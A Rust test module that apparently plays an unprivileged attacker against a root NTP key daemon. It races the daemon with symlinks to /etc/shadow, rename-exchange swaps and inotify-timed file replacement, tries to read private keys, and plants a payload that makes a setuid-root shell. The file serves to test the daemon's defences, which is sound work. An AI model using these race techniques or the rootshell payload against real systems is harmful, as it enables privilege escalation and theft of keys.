//! The attacker: the daemon's user, in a process of its own. It does what that user may do, as fast as it can, and counts
//! what came of it. The test binary is run a second time for this, as another user.

use rustix::fs::inotify::{self, CreateFlags, WatchFlags};
use rustix::fs::{CWD, OFlags, RenameFlags, renameat_with};
use std::fs;
use std::io::{Read as _, Write as _};
use std::mem::MaybeUninit;
use std::os::unix::fs::{MetadataExt as _, OpenOptionsExt as _, PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

/// Names the attack, for the process that is the attacker.
pub const ATTACK: &str = "KEYTRAIL_ATTACK";
/// In every file that the attacker makes and root would have to copy, run or move.
pub const MADE: &str = "MADE-BY-THE-ATTACKER";
/// What root runs if the attacker has won.
const PAYLOAD: &str =
    "id >>/mnt/pwned; cp /bin/sh /mnt/rootsh; chmod 4755 /mnt/rootsh # MADE-BY-THE-ATTACKER\n";

/// What it has managed.
#[derive(Debug, Default)]
pub struct Score {
    /// Names, links and directories that it has put in the place of others.
    pub swaps: AtomicUsize,
    /// Of these, in answer to something that root had just made.
    pub timed: AtomicUsize,
    /// Files with a password or key in them that it could read.
    pub stolen: AtomicUsize,
}

impl Score {
    fn swapped(&self) {
        self.swaps.fetch_add(1, Ordering::Relaxed);
    }
}

/// Attacks until its standard input ends; then says what it has managed.
pub fn main(attack: &str) {
    let score = Arc::new(Score::default());
    let done = Arc::new(AtomicBool::new(false));
    let over = Arc::clone(&done);
    std::thread::spawn(move || {
        let _ = std::io::stdin().read_to_end(&mut Vec::new());
        over.store(true, Ordering::SeqCst);
        // Nothing it waits for may keep it.
        std::thread::sleep(Duration::from_secs(2));
        std::process::exit(0);
    });
    println!("attacking");
    let other = Arc::clone(&score);
    let attack = attack.to_owned();
    let kind = attack.clone();
    std::thread::spawn(move || match kind.as_str() {
        "exchanged" | "flicker" => exchange(&other),
        "sticky" => watch(Path::new("/mnt/sticky/keys"), false, &other),
        kind => watch(Path::new("/etc/ntp/crypto"), kind == "owned", &other),
    });
    let mut turn = 0;
    while !done.load(Ordering::SeqCst) {
        turn += 1;
        litter(&attack, turn, &score);
        // Some ten thousand moves a second are enough; whom it attacks is to get on, too.
        if turn % 8 == 0 {
            std::thread::sleep(Duration::from_micros(500));
        }
    }
    println!(
        "score {} {} {}",
        score.swaps.load(Ordering::SeqCst),
        score.timed.load(Ordering::SeqCst),
        score.stolen.load(Ordering::SeqCst)
    );
}

/// Puts one thing in the place of another, at once.
fn put(make: impl FnOnce(&Path) -> std::io::Result<()>, at: &str, score: &Score) {
    let beside = PathBuf::from(format!("{at}.{}", std::process::id()));
    if fs::symlink_metadata(&beside).is_ok() {
        let _ = fs::remove_file(&beside);
    }
    if make(&beside).is_ok() && fs::rename(&beside, at).is_ok() {
        score.swapped();
    } else {
        let _ = fs::remove_file(&beside);
    }
}

/// One move of many, in the directories that are its own and in those that everybody can write to.
fn litter(attack: &str, turn: usize, score: &Score) {
    // Once, and then again and again: a long run must not wait for programs that start.
    if turn % 4096 == 1 {
        // A mount in a name space of its own changes nothing for others; where that is not allowed it fails.
        let _ = Command::new("unshare")
            .args(["-Urm", "mount", "--bind", "/var/lib/ntp", "/etc/ntp"])
            .stderr(std::process::Stdio::null())
            .status();
    }
    for log in [
        "/var/log/ntpsec/ntp.log",
        "/var/log/ntpsec/st/cryptostats.20261201",
    ] {
        match turn % 7 {
            0 => put(|at| symlink("/etc/victim/secret", at), log, score),
            1 => put(|at| symlink("/etc/shadow", at), log, score),
            2 => put(|at| symlink("/proc/kmsg", at), log, score),
            3 => put(
                |at| {
                    rustix::fs::mknodat(CWD, at, rustix::fs::FileType::Fifo, 0o644.into(), 0)
                        .map_err(Into::into)
                },
                log,
                score,
            ),
            // Refused where the kernel protects links (fs.protected_hardlinks).
            4 => put(|at| fs::hard_link("/etc/victim/secret", at), log, score),
            5 => put(|at| symlink("/etc/ntp/keytrail.conf", at), log, score),
            _ => put(|at| fs::write(at, "an honest line\n"), log, score),
        }
    }
    match attack {
        "conf" => {
            let conf = "/var/lib/ntp/kt.conf";
            match turn % 3 {
                0 => put(|at| symlink("/etc/victim/secret", at), conf, score),
                1 => put(|at| fs::hard_link("/etc/victim/lock", at), conf, score),
                _ => put(|at| fs::write(at, format!("# {MADE}\n")), conf, score),
            }
        }
        "flicker" => {
            // A link to a directory of root's, and a directory with root's in it, by turns.
            let _ = fs::create_dir("/var/lib/ntp/mine");
            put(|at| symlink("/etc/victim", at), "/var/lib/ntp/turn", score);
            if renameat_with(
                CWD,
                "/var/lib/ntp/mine",
                CWD,
                "/var/lib/ntp/turn",
                RenameFlags::EXCHANGE,
            )
            .is_ok()
            {
                score.swapped();
                let _ = renameat_with(
                    CWD,
                    "/var/lib/ntp/mine",
                    CWD,
                    "/var/lib/ntp/turn",
                    RenameFlags::EXCHANGE,
                );
            }
        }
        "sticky" => {
            for name in ["keys.new", ".keytrail", ".keytrail-stage-1-1"] {
                let at = format!("/mnt/sticky/{name}");
                put(|at| symlink("/etc/victim", at), &at, score);
            }
            let _ = renameat_with(
                CWD,
                "/mnt/sticky/keys",
                CWD,
                "/mnt/sticky/keys.new",
                RenameFlags::EXCHANGE,
            );
        }
        "owned" => own_files(Path::new("/etc/ntp/crypto")),
        _ => {}
    }
}

/// What an owner may do to his files in a directory that is not his.
fn own_files(dir: &Path) {
    for entry in fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_symlink() {
            continue;
        }
        let _ = fs::set_permissions(&path, fs::Permissions::from_mode(0o4755));
        let _ = fs::remove_file(&path);
        let _ = symlink("/etc/victim/secret", dir.join("ntpkey_host_one"));
        let _ = fs::hard_link(&path, "/var/lib/ntp/linked");
        let _ = fs::remove_file("/var/lib/ntp/linked");
    }
}

/// Waits for names in a directory: calls with each as it is made.
fn names(dir: &Path, mut made: impl FnMut(&str)) {
    let watch = inotify::init(CreateFlags::empty()).expect("inotify");
    if inotify::add_watch(&watch, dir, WatchFlags::CREATE | WatchFlags::MOVED_TO).is_err() {
        return;
    }
    let mut buffer = [MaybeUninit::uninit(); 8192];
    let mut events = inotify::Reader::new(&watch, &mut buffer);
    while let Ok(event) = events.next() {
        if let Some(name) = event.file_name() {
            made(&name.to_string_lossy());
        }
    }
}

/// Tries to read and to write to all that comes in a directory; where its key files are its own, it may read these.
fn watch(dir: &Path, own_keys: bool, score: &Score) {
    names(dir, |name| {
        score.timed.fetch_add(1, Ordering::Relaxed);
        let path = dir.join(name);
        for path in [path.clone(), path.join("0"), path.join("1"), path.join("lock")] {
            if !(own_keys && name.starts_with("ntpkey_")) {
                steal(&path, score);
            }
            // Its own key files it only has open for writing: what it does to these is its daemon's loss.
            let mut open = fs::OpenOptions::new();
            if name.starts_with("ntpkey_") {
                drop(open.append(true).open(&path));
            } else if let Ok(mut file) = open.write(true).truncate(true).open(&path) {
                let _ = file.write_all(PAYLOAD.as_bytes());
            }
        }
        let _ = renameat_with(CWD, &path, CWD, "/var/lib/ntp/mine", RenameFlags::EXCHANGE);
        let _ = fs::remove_file(&path);
    });
}

fn steal(path: &Path, score: &Score) {
    // What a link leads to it may read anyway, or not.
    let flags = OFlags::NOFOLLOW | OFlags::NONBLOCK;
    let mut read = Vec::new();
    if let Ok(mut file) = fs::OpenOptions::new()
        .read(true)
        .custom_flags(flags.bits().cast_signed())
        .open(path)
    {
        let _ = file.read_to_end(&mut read);
    }
    let text = String::from_utf8_lossy(&read);
    if text.contains("crypto pw") || text.contains("PRIVATE KEY") {
        score.stolen.fetch_add(1, Ordering::Relaxed);
    }
}

/// Exchanges the directory in which root has begun to work for one of its own that looks the same, and has commands in the
/// place of whatever root has put into its directory.
fn exchange(score: &Score) {
    let (keys, evil) = (Path::new("/var/lib/ntp/keys"), Path::new("/var/lib/ntp/evil"));
    let mut seen = 0_u32;
    names(keys, |name| {
        if !name.starts_with(".keytrail-stage-") {
            return;
        }
        seen += 1;
        score.timed.fetch_add(1, Ordering::Relaxed);
        let stage = evil.join(name);
        let _ = fs::create_dir(evil);
        let _ = fs::set_permissions(evil, fs::Permissions::from_mode(0o777));
        for entry in fs::read_dir(keys).into_iter().flatten().flatten() {
            let there = evil.join(entry.file_name());
            match fs::read_link(entry.path()) {
                Ok(target) => drop(symlink(target, there)),
                Err(_) if entry.file_name().to_string_lossy().starts_with('.') => {}
                Err(_) => drop(fs::write(there, "")),
            }
        }
        let _ = fs::create_dir(&stage);
        let _ = fs::set_permissions(&stage, fs::Permissions::from_mode(0o777));
        for member in 0..20 {
            let _ = fs::write(stage.join(member.to_string()), PAYLOAD);
        }
        // The first directory is that of staging: commands come with the second. By turns before and after root is in it.
        if seen % 2 == 1 {
            return;
        }
        std::thread::sleep(Duration::from_millis(u64::from(seen / 2 % 4) * 5));
        if renameat_with(CWD, keys, CWD, evil, RenameFlags::EXCHANGE).is_ok() {
            score.swapped();
            replace(&keys.join(name));
        }
    });
}

/// For a while, puts a command in the place of every file that root makes in a directory of the attacker's.
fn replace(dir: &Path) {
    let end = Instant::now() + Duration::from_millis(500);
    while Instant::now() < end {
        for member in 0..20 {
            let (at, beside) = (dir.join(member.to_string()), dir.join("beside"));
            let made = fs::symlink_metadata(&at);
            if made.is_ok_and(|meta| meta.uid() == 0) && fs::write(&beside, PAYLOAD).is_ok() {
                let _ = fs::rename(&beside, &at);
            }
        }
    }
}
